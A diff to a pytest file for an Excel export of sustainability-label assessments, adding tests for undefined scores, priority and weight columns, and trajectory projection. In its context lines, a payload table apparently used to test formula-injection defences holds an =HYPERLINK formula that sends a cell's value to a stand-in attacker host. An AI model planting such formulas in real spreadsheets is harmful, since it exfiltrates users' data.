@@ -9,14 +9,25 @@ import re
 import zipfile
 
 import pytest
-from excel_helpers import column, exported, make_data, mini_assessment, open_book, row_of
+from excel_helpers import FIXTURES, column, exported, make_data, mini_assessment, open_book, row_of
 
-from labelnr.assessment import Answer, AuditorVerdict, Commitment, EvidenceRef, NotApplicable
+from labelnr.assessment import (
+    Answer,
+    AuditorVerdict,
+    Campaign,
+    Commitment,
+    EvidenceRef,
+    NotApplicable,
+    Period,
+    RefPin,
+)
 from labelnr.excel.export import DANGEROUS_PREFIXES, sheet_name
+from labelnr.excel.from_file import workbook_data
 from labelnr.excel.meta import LISTS_SHEET, META_SHEET
 from labelnr.excel.model import EvidenceEntry, HistoryEntry
-from labelnr.loader import LoadedReferential
-from labelnr.referential import EvidenceType
+from labelnr.loader import LoadedReferential, load_referential
+from labelnr.referential import EvidenceType, Referential
+from labelnr.scoring import score
 
 PAYLOADS = {
     "=": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -310,3 +321,53 @@ def test_real_referential_and_demo_file(real_catalog: object) -> None:
     listed = [row[0] for name in theme_sheets for row in book[name].iter_rows(min_row=2, values_only=True)]
     assert listed == [c.id for c in data.criteria]
     assert len(data.actual) == 2  # the baseline file next to it gives the other actual point
+
+
+def test_summary_says_undefined_when_nothing_applies(mini: LoadedReferential) -> None:
+    # Every criterion N/A: no score at all, written so (not 0 points, not 0 %), per theme too.
+    data = mini.referential.model_dump()
+    for crit in data["criteria"]:
+        crit["not_applicable"] = {"allowed": True}
+    every = Referential.model_validate(data)
+    nothing = score(every, {cid: Answer(not_applicable=NotApplicable(reason="x", justification="y"))
+                            for cid in every.criteria_by_id})
+    book = open_book(exported(make_data(mini, self_scores=nothing, verified_scores=nothing)))
+    summary = {row[0]: row[1:3] for row in book["Synthèse"].iter_rows(values_only=True) if row[0]}
+    undefined = ("non défini (aucun critère applicable)",) * 2
+    assert summary["Points (sur 1000)"] == undefined
+    assert summary["Pourcentage"] == undefined
+    assert summary["Thème A"] == undefined
+
+
+def test_status_referential_shows_priority_and_weight_not_level(mini: LoadedReferential) -> None:
+    # rgesn-mini: no label levels, priorities weighing 1.5 / 1.25 / 1. "Niveau 1 / Obligatoire Non"
+    # would mean nothing there; Label NR-like mini keeps them, with its weights (2, 1, 1).
+    rgesn = load_referential(FIXTURES / "rgesn-mini.yaml")
+    assessment = mini_assessment(referential=RefPin(id="rgesn-mini", version="2024"), answers={
+        "1.1": Answer(level="validated"), "1.2": Answer(level="in_progress")}, verdicts={}, commitments=[],
+        targets={})
+    content = exported(make_data(rgesn, assessment))
+    ws = open_book(content)["Stratégie"]
+    headers = [c.value for c in ws[1]]
+    assert headers[:6] == ["Critère", "Principe", "Intitulé", "Description", "Priorité", "Poids"]
+    assert "Niveau" not in headers
+    assert "Obligatoire" not in headers
+    row = row_of(content, "Stratégie", "1.2")
+    assert ws[f"{column('priority', rgesn.referential)}{row}"].value == "Recommandé"
+    assert ws[f"{column('weight', rgesn.referential)}{row}"].value == 1.25
+    mini_headers = [c.value for c in open_book(exported(make_data(mini)))["Thème A"][1]]
+    assert mini_headers[4:7] == ["Poids", "Niveau", "Obligatoire"]
+
+
+def test_trajectory_projects_from_the_latest_campaign_held(mini: LoadedReferential) -> None:
+    # Baseline: A-1 partial (375 of theme a's 750; A-2 N/A), B-1 none → 375. Year 1 held: B-1 full
+    # → 625. Kept, the year-1 commitment (A-1 full) gives 1000 from year 1, not 750 from the baseline.
+    base = mini_assessment()
+    year1 = base.model_copy(update={
+        "campaign": Campaign(period=Period.YEAR1, date=dt.date(2026, 2, 1)),
+        "answers": {**base.answers, "B-1": Answer(level="full")}})
+    data = workbook_data(base, mini, campaign_id="mini-baseline.yaml", exported_by="t", others=[year1])
+    rows = list(open_book(exported(data))["Trajectoire"].iter_rows(min_row=2, max_row=5, values_only=True))
+    assert [r[2] for r in rows] == [pytest.approx(375), pytest.approx(1000), pytest.approx(1000),
+                                    pytest.approx(1000)]
+    assert [r[3] for r in rows][:2] == [pytest.approx(375), pytest.approx(625)]
